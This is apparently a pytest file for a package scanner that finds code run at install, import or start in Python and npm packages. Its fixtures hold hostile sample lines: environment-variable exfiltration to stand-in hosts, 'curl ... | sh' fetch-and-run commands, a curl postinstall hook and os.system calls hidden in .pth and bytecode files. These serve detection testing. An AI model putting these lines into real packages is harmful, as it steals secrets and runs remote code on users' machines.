"""Which members are read, by which reader, and what is said of those that are not."""

import importlib.util
import marshal
from dataclasses import replace

import pytest
from test_binaries import ELF
from trees import REF, called, code_of, facts_of, tree_of

from watchhouse.evidence.facts.assemble import ASSET_BYTES, CHEAP_BYTES, assemble
from watchhouse.evidence.facts.code import Zone
from watchhouse.evidence.facts.first_pass import DATA_BYTES
from watchhouse.evidence.facts.hints import Hint
from watchhouse.model.artifact import ArtifactKind
from watchhouse.model.evidence import GapReason, Moment

SENDS = "import os, requests\nrequests.post('https://x.example/', json=dict(os.environ))\n"
NO_METADATA = (GapReason.UNPARSABLE, "", False)
WEAK = "import subprocess\nsubprocess.run(['git'])\n"
FETCHES = "#!/bin/sh\ncurl http://203.0.113.7/x | sh\n"
SCRIPT = "const {exec} = require('child_process')\nexec('curl http://203.0.113.7/x | sh')\n"
COMPILED = (
    importlib.util.MAGIC_NUMBER
    + bytes(12)
    + marshal.dumps(compile("import os\nos.system('id')\n", "a.py", "exec", dont_inherit=True))
)


def padded(text: str, size: int, comment: str = "//") -> str:
    """Return `text` filled up to `size` with comments."""
    line = f"{comment} {'x' * 60}\n"
    return text + line * ((size - len(text)) // len(line) + 1)


@pytest.mark.parametrize(
    ("path", "kind", "moment"),
    [
        ("garden-1.0/setup.py", ArtifactKind.SDIST, Moment.INSTALL),
        ("garden/__init__.py", ArtifactKind.WHEEL, Moment.IMPORT),
        ("sitecustomize.py", ArtifactKind.WHEEL, Moment.START),
        ("garden/tool.pyw", ArtifactKind.WHEEL, Moment.IMPORT),
    ],
)
def test_code_runs_when_its_part_of_the_package_does(path: str, kind: ArtifactKind, moment: Moment) -> None:
    """The same lines in another place are run at another time."""
    calls = code_of({path: SENDS}, kind)[path].calls
    assert {call.moment for call in calls if call.name == "requests.post"} == {moment}


def test_an_installer_is_read_whatever_it_says() -> None:
    """Nothing has to be seen in a setup.py for it to be read; a module has to earn it."""
    plain = "value = join('a', 'b')\n"
    read = code_of({"garden-1.0/setup.py": plain, "garden-1.0/garden/a.py": plain}, ArtifactKind.SDIST)
    assert set(read) == {"garden-1.0/setup.py"}


def test_weakly_hinted_source_is_read_smallest_first_while_it_is_cheap() -> None:
    """One large file cannot use up what many small ones would have had; strongly hinted ones are read anyway."""
    read = code_of(
        {
            "garden/large.py": WEAK + f"TEXT = '{'x' * (CHEAP_BYTES + 1)}; import subprocess'\n",
            "garden/small.py": WEAK,
            "garden/sends.py": padded(SENDS, CHEAP_BYTES * 2, "#"),
        }
    )
    assert set(read) == {"garden/small.py", "garden/sends.py"}


def test_tests_and_examples_are_read_only_for_what_has_no_place_there() -> None:
    """Tests of honest packages send and start things; none of them hides code beyond the screen."""
    pushed = f"x = 1;{' ' * 200}exec(y)\n"
    read = code_of(
        {"garden/tests/a.py": SENDS, "garden/examples/b.py": SENDS, "garden/tests/c.py": pushed + SENDS}
    )
    assert set(read) == {"garden/tests/c.py"}


def test_what_a_module_imports_from_its_tests_is_read_with_it() -> None:
    """Code that hides among tests runs when the package imports it."""
    read = code_of(
        {
            "garden/__init__.py": "import subprocess\nfrom garden.tests import core\n",
            "garden/tests/__init__.py": "",
            "garden/tests/core.py": SENDS,
        }
    )
    assert Moment.IMPORT in {call.moment for call in read["garden/tests/core.py"].calls}


def test_a_program_without_suffix_is_known_by_its_first_line() -> None:
    """Scripts of wheels have no suffix."""
    read = code_of({"garden-1.0.data/scripts/garden": "#!/usr/bin/python\n" + SENDS})
    assert "requests.post" in called(read["garden-1.0.data/scripts/garden"])


def test_of_a_path_file_only_lines_that_import_are_run() -> None:
    """Folders and comments in a `.pth` run nothing; the line keeps its number."""
    text = "../folder\nos.system('id')\n# import os; os.system('id')\nimport os; os.system('whoami')\n"
    (call,) = (one for one in code_of({"garden.pth": text})["garden.pth"].calls if one.name == "os.system")
    assert (call.location.line, call.moment, call.argument(0).const) == (4, Moment.START, "whoami")


@pytest.mark.parametrize(
    "path", ["README.md", "garden/data/help.html", "garden-1.0.dist-info/METADATA", "Makefile", "notes.rst"]
)
def test_prose_is_not_read_as_a_script(path: str) -> None:
    """Instructions quote the commands that a script would run."""
    assert code_of({path: FETCHES}) == {}


@pytest.mark.parametrize("path", ["garden/install.sh", "garden/bin/run", "garden/x.bash"])
def test_a_script_is_read_by_its_language(path: str) -> None:
    """What an installer of the package or its user would start is read; nothing imports it."""
    read = code_of({path: FETCHES})[path]
    assert (read.language, "shell.curl" in called(read)) == ("shell", True)
    assert {call.moment for call in read.calls} == {Moment.CALL}


def test_javascript_of_a_python_package_is_read_only_when_small() -> None:
    """Large JavaScript in a wheel is an asset for browsers; in an npm package it is the package."""
    files = {"garden/small.js": SCRIPT, "garden/large.js": padded(SCRIPT, ASSET_BYTES + 1)}
    facts, gaps = facts_of(files)
    assert {one.path for one in facts.code if one.calls} == {"garden/small.js"}
    assert (GapReason.MEMBER_TOO_LARGE, "garden/large.js", False) in gaps
    read = code_of({f"package/{path}": text for path, text in files.items()}, ArtifactKind.NPM_TARBALL)
    assert set(read) == {"package/garden/small.js", "package/garden/large.js"}
    assert {call.moment for one in read.values() for call in one.calls} == {Moment.IMPORT}


def test_the_command_of_a_lifecycle_script_is_read() -> None:
    """What npm runs at installation is a command line; other scripts run when somebody asks."""
    manifest = '{"name": "garden", "scripts": {"postinstall": "curl -d x http://x.example", "test": "jest"}}'
    read = code_of({"package/package.json": manifest}, ArtifactKind.NPM_TARBALL)["package/package.json"]
    assert (read.zone, called(read)) == (Zone.INSTALLER, {"shell.curl"})
    assert {call.moment for call in read.calls} == {Moment.INSTALL}


@pytest.mark.parametrize(
    "path", ["garden/a.pyc", "garden/__pycache__/a.cpython-311.pyc", "__pycache__/a.cpython-311.pyc", "a.pyo"]
)
def test_compiled_python_is_read_where_its_source_is_missing_or_another(path: str) -> None:
    """Beside the source that it was compiled from, it says nothing new."""
    source = path.replace("__pycache__/", "").split(".", 1)[0] + ".py"
    assert "os.system" in called(code_of({path: COMPILED})[path])
    assert path not in code_of({path: COMPILED, source: "import os\nos.system('id')\n"})
    assert path in code_of({path: COMPILED, source: "import os\n"})
    assert path in code_of({path: COMPILED, "other/" + source: "import os\n"})


def test_code_that_code_carries_is_read_with_its_layer() -> None:
    """A shell script in a text that Python starts is read as a shell script, at its moment."""
    source = "import os\nos.system('curl -d @/etc/hostname http://x.example')\n"
    facts, _ = facts_of({"garden-1.0/setup.py": source}, ArtifactKind.SDIST)
    carried = [one for one in facts.code if one.language == "shell"]
    assert [(one.path, called(one)) for one in carried] == [("garden-1.0/setup.py", {"shell.curl"})]
    assert {call.moment for one in carried for call in one.calls} == {Moment.INSTALL}


def test_large_data_is_not_scanned_and_large_source_is() -> None:
    """A table of a megabyte names every word there is."""
    text = padded("https://x.example/api/webhooks/1/x\n", DATA_BYTES + 1, "#")
    facts, _ = facts_of({"garden/words.dat": text, "garden/words.py": text})
    assert set(facts.hints) == {"garden/words.py"}
    assert Hint.SERVICE in facts.hints[facts.tree.members[1].path]


def test_equal_members_have_equal_hints() -> None:
    """Bytes that occur twice are scanned once, and each path is told."""
    facts, _ = facts_of({"a/x.py": SENDS, "b/y.py": SENDS, "c/z.py": "x = 1\n"})
    assert len(facts.hints) == 2
    assert len(set(facts.hints.values())) == 1


def test_native_members_are_read_as_such_and_never_as_text() -> None:
    """A program leaves its gap, and no hints of text."""
    facts, gaps = facts_of({"garden/tool": ELF + b"\0https://x.example/api/webhooks/1\0"})
    assert ([one.path for one in facts.binaries], facts.hints) == (["garden/tool"], {})
    assert gaps == {(GapReason.OPAQUE, "garden/tool", True), NO_METADATA}


def test_gaps_of_every_reader_are_handed_on() -> None:
    """What one reader could not read is told beside what the others could not."""
    _, gaps = facts_of(
        {
            "garden-1.0/setup.py": "import os\nos.system('id')\n)))\n",
            "garden-1.0/garden/a.pyc": b"no code",
            "garden-1.0/garden/tool": ELF,
        },
        ArtifactKind.SDIST,
    )
    assert {(path, hides) for _, path, hides in gaps - {NO_METADATA}} == {
        ("garden-1.0/setup.py", True),
        ("garden-1.0/garden/a.pyc", True),
        ("garden-1.0/garden/tool", True),
    }


def test_of_two_members_of_one_name_both_are_read() -> None:
    """Which of them stays when they are unpacked is up to the installer."""
    first = tree_of({"garden-1.0/setup.py": "import os\nos.getcwd()\n"}, ArtifactKind.SDIST)
    second = tree_of({"garden-1.0/setup.py": SENDS}, ArtifactKind.SDIST)
    facts, _ = assemble(replace(first, members=first.members + second.members), REF)
    assert called(facts.code[0]) >= {"os.getcwd", "requests.post"}


def test_an_empty_package_has_no_facts_and_lacks_metadata() -> None:
    """Nothing in, nothing out, and what every package has is missed."""
    facts, gaps = facts_of({})
    assert (facts.code, facts.binaries, facts.hints, gaps) == ((), (), {}, {NO_METADATA})


THIEF = "import os, requests\nrequests.post('https://collector.example/api/webhooks/1/x', json=dict(os.environ))\n"


def test_code_among_tests_is_read_when_the_package_imports_it() -> None:
    """A payload that hides in a folder of tests is found through the line that reaches into it."""
    files = {"garden/__init__.py": "from .tests import core\n", "garden/tests/core.py": THIEF}
    read = code_of(files)["garden/tests/core.py"]
    assert {call.moment for call in read.calls if call.name == "requests.post"} == {Moment.IMPORT}


def test_code_among_tests_is_left_alone_when_nothing_imports_it() -> None:
    """What nothing runs says nothing."""
    assert code_of({"garden/__init__.py": "x = 1\n", "garden/tests/core.py": THIEF}) == {}


def test_a_package_that_is_called_demo_is_a_package() -> None:
    """What stands at the top of a wheel can be imported, whatever its name."""
    assert "requests.post" in called(code_of({"demo/__init__.py": THIEF})["demo/__init__.py"])
